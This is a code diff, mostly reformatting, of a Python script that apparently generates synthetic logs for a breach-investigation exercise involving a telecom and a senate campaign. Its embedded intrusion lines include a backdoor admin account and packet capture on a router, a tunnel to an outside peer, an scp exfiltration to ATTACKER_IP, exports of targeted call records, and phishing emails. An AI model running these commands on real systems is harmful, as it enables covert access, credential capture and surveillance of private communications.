@@ -29,9 +29,9 @@ ATTACKER_IP = "203.0.113.66"
 TUNNEL_PEER = "198.51.100.23"
 JUMP_HOST_IP = "10.20.1.15"
 PHISH_DOMAIN = "harper-campaign-login.example"
-START = dt.datetime(2024, 10, 1, tzinfo=dt.timezone.utc)
+START = dt.datetime(2024, 10, 1, tzinfo=dt.UTC)
 DAYS = 14
-BREACH = dt.datetime(2024, 10, 8, 2, 13, 7, tzinfo=dt.timezone.utc)
+BREACH = dt.datetime(2024, 10, 8, 2, 13, 7, tzinfo=dt.UTC)
 
 REGISTRY = """organisation,person,role,msisdn,imsi,email,notify_email
 Harper for Senate,Dana Harper,Candidate,+12025550143,310150123456781,dana@harperforsenate.example,security@harperforsenate.example
@@ -106,40 +106,87 @@ def _router_noise(rng: random.Random, host: str) -> list[tuple[dt.datetime, str]
             if kind < 0.35:
                 iface = f"GigabitEthernet0/0/{rng.randint(0, 3)}"
                 state = rng.choice(["down", "up"])
-                lines.append(_cisco(ts, host, seq, "LINEPROTO-5-UPDOWN",
-                                    f"Line protocol on Interface {iface}, changed state to {state}"))
+                lines.append(
+                    _cisco(
+                        ts,
+                        host,
+                        seq,
+                        "LINEPROTO-5-UPDOWN",
+                        f"Line protocol on Interface {iface}, changed state to {state}",
+                    )
+                )
             elif kind < 0.55:
                 peer = f"10.255.0.{rng.randint(1, 30)}"
-                lines.append(_cisco(ts, host, seq, "BGP-5-ADJCHANGE", f"neighbor {peer} {rng.choice(['Up', 'Down BGP Notification sent'])}"))
+                lines.append(
+                    _cisco(
+                        ts,
+                        host,
+                        seq,
+                        "BGP-5-ADJCHANGE",
+                        f"neighbor {peer} {rng.choice(['Up', 'Down BGP Notification sent'])}",
+                    )
+                )
             elif kind < 0.75:
                 admin = rng.choice(ADMINS[:2])
-                lines.append(_cisco(ts, host, seq, "SEC_LOGIN-5-LOGIN_SUCCESS",
-                                    f"Login Success [user: {admin}] [Source: {JUMP_HOST_IP}] [localport: 22] at "
-                                    f"{ts.strftime('%H:%M:%S')} UTC {ts.strftime('%a %b %d %Y')}"))
+                lines.append(
+                    _cisco(
+                        ts,
+                        host,
+                        seq,
+                        "SEC_LOGIN-5-LOGIN_SUCCESS",
+                        f"Login Success [user: {admin}] [Source: {JUMP_HOST_IP}] [localport: 22] at "
+                        f"{ts.strftime('%H:%M:%S')} UTC {ts.strftime('%a %b %d %Y')}",
+                    )
+                )
             elif kind < 0.9:
                 admin = rng.choice(ADMINS[:2])
-                command = rng.choice(["interface GigabitEthernet0/0/2", "description uplink to core",
-                                      "ip route 10.40.0.0 255.255.0.0 10.255.0.9", "ntp server 10.20.5.10",
-                                      "logging host 10.20.5.50", "no shutdown"])
-                lines.append(_cisco(ts, host, seq, "PARSER-5-CFGLOG_LOGGEDCMD", f"User:{admin}  logged command:{command}"))
+                command = rng.choice(
+                    [
+                        "interface GigabitEthernet0/0/2",
+                        "description uplink to core",
+                        "ip route 10.40.0.0 255.255.0.0 10.255.0.9",
+                        "ntp server 10.20.5.10",
+                        "logging host 10.20.5.50",
+                        "no shutdown",
+                    ]
+                )
+                lines.append(
+                    _cisco(ts, host, seq, "PARSER-5-CFGLOG_LOGGEDCMD", f"User:{admin}  logged command:{command}")
+                )
             else:
-                lines.append(_cisco(ts, host, seq, "SYS-6-CLOCKUPDATE",
-                                    "System clock has been updated from NTP", pri=190))
+                lines.append(
+                    _cisco(ts, host, seq, "SYS-6-CLOCKUPDATE", "System clock has been updated from NTP", pri=190)
+                )
     return lines
 
 
 def _router_intrusion(host: str) -> list[tuple[dt.datetime, str]]:
     t = BREACH + dt.timedelta(minutes=4, seconds=34)
     steps = [
-        ("SEC_LOGIN-5-LOGIN_SUCCESS", f"Login Success [user: netops] [Source: {JUMP_HOST_IP}] [localport: 22] at "
-                                      f"{t.strftime('%H:%M:%S')} UTC {t.strftime('%a %b %d %Y')}"),
-        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:username cisco_tac privilege 15 secret 9 $9$Vq2kXz1Lr0p8aE$5hM1eGkR0wQ"),
+        (
+            "SEC_LOGIN-5-LOGIN_SUCCESS",
+            f"Login Success [user: netops] [Source: {JUMP_HOST_IP}] [localport: 22] at "
+            f"{t.strftime('%H:%M:%S')} UTC {t.strftime('%a %b %d %Y')}",
+        ),
+        (
+            "PARSER-5-CFGLOG_LOGGEDCMD",
+            "User:netops  logged command:username cisco_tac privilege 15 secret 9 $9$Vq2kXz1Lr0p8aE$5hM1eGkR0wQ",
+        ),
         ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:iox"),
         ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:guestshell enable"),
-        ("VMAN-2-GUESTSHELL_ENABLED", "The guest shell has been enabled.  The command 'guestshell' may now be used to access it, 'guestshell destroy' to remove it."),
+        (
+            "VMAN-2-GUESTSHELL_ENABLED",
+            "The guest shell has been enabled.  The command 'guestshell' may now be used to access it, 'guestshell destroy' to remove it.",
+        ),
         ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:ip ssh port 57722 rotary 1"),
-        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:monitor capture TAC interface GigabitEthernet0/0/1 both"),
-        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:monitor capture TAC match ipv4 protocol tcp any any eq 49"),
+        (
+            "PARSER-5-CFGLOG_LOGGEDCMD",
+            "User:netops  logged command:monitor capture TAC interface GigabitEthernet0/0/1 both",
+        ),
+        (
+            "PARSER-5-CFGLOG_LOGGEDCMD",
+            "User:netops  logged command:monitor capture TAC match ipv4 protocol tcp any any eq 49",
+        ),
         ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:monitor capture TAC start"),
         ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:interface Tunnel100"),
         ("PARSER-5-CFGLOG_LOGGEDCMD", f"User:netops  logged command:tunnel destination {TUNNEL_PEER}"),
@@ -165,15 +212,30 @@ def _jump_noise(rng: random.Random) -> list[tuple[dt.datetime, str]]:
             if kind < 0.4:
                 user = rng.choice(ADMINS)
                 src = f"10.30.{rng.randint(0, 3)}.{rng.randint(2, 250)}"
-                lines.append((ts, f"{_bsd(ts)} mrd-jump-01 sshd[{pid}]: Accepted publickey for {user} from {src} "
-                                  f"port {rng.randint(40000, 60000)} ssh2: ED25519 SHA256:{rng.getrandbits(64):016x}"))
+                lines.append(
+                    (
+                        ts,
+                        f"{_bsd(ts)} mrd-jump-01 sshd[{pid}]: Accepted publickey for {user} from {src} "
+                        f"port {rng.randint(40000, 60000)} ssh2: ED25519 SHA256:{rng.getrandbits(64):016x}",
+                    )
+                )
             elif kind < 0.6:
-                lines.append((ts, f"{_bsd(ts)} mrd-jump-01 sshd[{pid}]: Invalid user admin from 192.0.2.{rng.randint(1, 254)} "
-                                  f"port {rng.randint(40000, 60000)}"))
+                lines.append(
+                    (
+                        ts,
+                        f"{_bsd(ts)} mrd-jump-01 sshd[{pid}]: Invalid user admin from 192.0.2.{rng.randint(1, 254)} "
+                        f"port {rng.randint(40000, 60000)}",
+                    )
+                )
             elif kind < 0.8:
                 lines.append((ts, f"{_bsd(ts)} mrd-jump-01 CRON[{pid}]: (root) CMD (/usr/local/bin/rancid-run)"))
             else:
-                lines.append((ts, f"{_bsd(ts)} mrd-jump-01 systemd[1]: Started Session {rng.randint(100, 9999)} of User {rng.choice(ADMINS)}."))
+                lines.append(
+                    (
+                        ts,
+                        f"{_bsd(ts)} mrd-jump-01 systemd[1]: Started Session {rng.randint(100, 9999)} of User {rng.choice(ADMINS)}.",
+                    )
+                )
     return lines
 
 
@@ -181,9 +243,32 @@ def _jump_intrusion() -> list[tuple[dt.datetime, str]]:
     t = BREACH
     return [
         (t, f"{_bsd(t)} mrd-jump-01 sshd[4121]: Accepted password for netops from {ATTACKER_IP} port 50122 ssh2"),
-        (t + dt.timedelta(seconds=1), f"{_bsd(t + dt.timedelta(seconds=1))} mrd-jump-01 sshd[4121]: pam_unix(sshd:session): session opened for user netops(uid=1003) by (uid=0)"),
-        (t + dt.timedelta(minutes=52), f"{_bsd(t + dt.timedelta(minutes=52))} mrd-jump-01 sudo[4188]:   netops : TTY=pts/2 ; PWD=/home/netops ; USER=root ; COMMAND=/usr/bin/scp /tmp/.c/out.tgz netops@{ATTACKER_IP}:/srv/"),
+        (
+            t + dt.timedelta(seconds=1),
+            f"{_bsd(t + dt.timedelta(seconds=1))} mrd-jump-01 sshd[4121]: pam_unix(sshd:session): session opened for user netops(uid=1003) by (uid=0)",
+        ),
+        (
+            t + dt.timedelta(minutes=52),
+            f"{_bsd(t + dt.timedelta(minutes=52))} mrd-jump-01 sudo[4188]:   netops : TTY=pts/2 ; PWD=/home/netops ; USER=root ; COMMAND=/usr/bin/scp /tmp/.c/out.tgz netops@{ATTACKER_IP}:/srv/",
+        ),
     ]
+
+
+def _cdr(
+    ts: dt.datetime, action: str, user: str, kind: str, source: str, telecom: dict, destination: dict | None = None
+) -> dict:
+    """One call-record platform audit event, shaped as ECS plus the telecom namespace."""
+    event = {
+        "@timestamp": ts.isoformat().replace("+00:00", "Z"),
+        "event": {"dataset": "cdr.audit", "action": action, "outcome": "success"},
+        "host": {"name": "cdr-db-01"},
+        "user": {"name": user, "type": kind},
+        "source": {"ip": source},
+        "telecom": telecom,
+    }
+    if destination:
+        event["destination"] = destination
+    return event
 
 
 def _cdr_events(rng: random.Random) -> list[dict]:
@@ -193,56 +278,68 @@ def _cdr_events(rng: random.Random) -> list[dict]:
         base = START + dt.timedelta(days=day)
         for _ in range(rng.randint(40, 70)):
             ts = base + dt.timedelta(seconds=rng.randint(8 * 3600, 18 * 3600))
-            events.append({
-                "@timestamp": ts.isoformat().replace("+00:00", "Z"),
-                "event": {"dataset": "cdr.audit", "action": "cdr.query", "outcome": "success"},
-                "host": {"name": "cdr-db-01"},
-                "user": {"name": rng.choice(analysts), "type": "human"},
-                "source": {"ip": f"10.40.2.{rng.randint(10, 60)}"},
-                "telecom": {"msisdn": f"+1312555{rng.randint(1000, 9999)}", "records": rng.randint(1, 300),
-                            "case_ref": f"FRAUD-{rng.randint(1000, 9999)}"},
-            })
-        ts = base + dt.timedelta(hours=1, minutes=30)
-        events.append({
-            "@timestamp": ts.isoformat().replace("+00:00", "Z"),
-            "event": {"dataset": "cdr.audit", "action": "cdr.bulk_export", "outcome": "success"},
-            "host": {"name": "cdr-db-01"},
-            "user": {"name": "svc_mediation", "type": "service"},
-            "source": {"ip": "10.40.0.5"},
-            "destination": {"ip": "10.40.9.20"},
-            "telecom": {"records": rng.randint(400000, 600000), "job": "nightly-billing-feed"},
-        })
+            events.append(
+                _cdr(
+                    ts,
+                    "cdr.query",
+                    rng.choice(analysts),
+                    "human",
+                    f"10.40.2.{rng.randint(10, 60)}",
+                    {
+                        "msisdn": f"+1312555{rng.randint(1000, 9999)}",
+                        "records": rng.randint(1, 300),
+                        "case_ref": f"FRAUD-{rng.randint(1000, 9999)}",
+                    },
+                )
+            )
+        events.append(
+            _cdr(
+                base + dt.timedelta(hours=1, minutes=30),
+                "cdr.bulk_export",
+                "svc_mediation",
+                "service",
+                "10.40.0.5",
+                {"records": rng.randint(400000, 600000), "job": "nightly-billing-feed"},
+                {"ip": "10.40.9.20"},
+            )
+        )
     start = BREACH + dt.timedelta(minutes=31)
     for index, msisdn in enumerate(TARGETS):
-        ts = start + dt.timedelta(seconds=45 * index)
-        events.append({
-            "@timestamp": ts.isoformat().replace("+00:00", "Z"),
-            "event": {"dataset": "cdr.audit", "action": "cdr.query", "outcome": "success"},
-            "host": {"name": "cdr-db-01"},
-            "user": {"name": "svc_mediation", "type": "service"},
-            "source": {"ip": JUMP_HOST_IP},
-            "telecom": {"msisdn": msisdn, "records": 200 + 37 * index},
-        })
-    for index, msisdn in enumerate(TARGETS):
-        ts = start + dt.timedelta(minutes=9, seconds=5 * index)
-        events.append({
-            "@timestamp": ts.isoformat().replace("+00:00", "Z"),
-            "event": {"dataset": "cdr.audit", "action": "cdr.export", "outcome": "success"},
-            "host": {"name": "cdr-db-01"},
-            "user": {"name": "svc_mediation", "type": "service"},
-            "source": {"ip": JUMP_HOST_IP},
-            "destination": {"ip": ATTACKER_IP, "port": 443},
-            "telecom": {"msisdn": msisdn, "records": 200 + 37 * index},
-        })
+        records = {"msisdn": msisdn, "records": 200 + 37 * index}
+        events.append(
+            _cdr(
+                start + dt.timedelta(seconds=45 * index), "cdr.query", "svc_mediation", "service", JUMP_HOST_IP, records
+            )
+        )
+        events.append(
+            _cdr(
+                start + dt.timedelta(minutes=9, seconds=5 * index),
+                "cdr.export",
+                "svc_mediation",
+                "service",
+                JUMP_HOST_IP,
+                records,
+                {"ip": ATTACKER_IP, "port": 443},
+            )
+        )
     return sorted(events, key=lambda e: e["@timestamp"])
 
 
 def _mail_events(rng: random.Random) -> list[dict]:
     events = []
-    senders = ["newsletter@civicnews.example", "press@mfa.example", "volunteers@harperforsenate.example",
-               "billing@meridian-telecom.example"]
-    recipients = ["dana@harperforsenate.example", "miguel@harperforsenate.example", "priya@harperforsenate.example",
-                  "t.reyes@mfa.example", "ops@meridian-telecom.example"]
+    senders = [
+        "newsletter@civicnews.example",
+        "press@mfa.example",
+        "volunteers@harperforsenate.example",
+        "billing@meridian-telecom.example",
+    ]
+    recipients = [
+        "dana@harperforsenate.example",
+        "miguel@harperforsenate.example",
+        "priya@harperforsenate.example",
+        "t.reyes@mfa.example",
+        "ops@meridian-telecom.example",
+    ]
     for day in range(DAYS):
         base = START + dt.timedelta(days=day)
         for _ in range(rng.randint(20, 35)):
@@ -250,9 +347,16 @@ def _mail_events(rng: random.Random) -> list[dict]:
             events.append(_mail(ts, rng.choice(senders), rng.choice(recipients), "Weekly update", None, "delivered"))
     phish_time = BREACH - dt.timedelta(days=3, hours=5)
     for index, to in enumerate(recipients[:3]):
-        events.append(_mail(phish_time + dt.timedelta(seconds=20 * index), f"it-helpdesk@{PHISH_DOMAIN}", to,
-                            "Action required: re-verify your campaign SSO account",
-                            f"https://{PHISH_DOMAIN}/sso/verify?u={index}", "delivered"))
+        events.append(
+            _mail(
+                phish_time + dt.timedelta(seconds=20 * index),
+                f"it-helpdesk@{PHISH_DOMAIN}",
+                to,
+                "Action required: re-verify your campaign SSO account",
+                f"https://{PHISH_DOMAIN}/sso/verify?u={index}",
+                "delivered",
+            )
+        )
     return sorted(events, key=lambda e: e["@timestamp"])
 
 
@@ -261,8 +365,12 @@ def _mail(ts: dt.datetime, sender: str, to: str, subject: str, url: str | None, 
         "@timestamp": ts.isoformat().replace("+00:00", "Z"),
         "event": {"dataset": "email.gateway", "action": action},
         "host": {"name": "mx1.meridian-telecom.example"},
-        "email": {"from": {"address": sender}, "to": {"address": to}, "subject": subject,
-                  "sender": {"domain": sender.split("@", 1)[1]}},
+        "email": {
+            "from": {"address": sender},
+            "to": {"address": to},
+            "subject": subject,
+            "sender": {"domain": sender.split("@", 1)[1]},
+        },
     }
     if url:
         event["url"] = {"full": url, "domain": url.split("/")[2]}
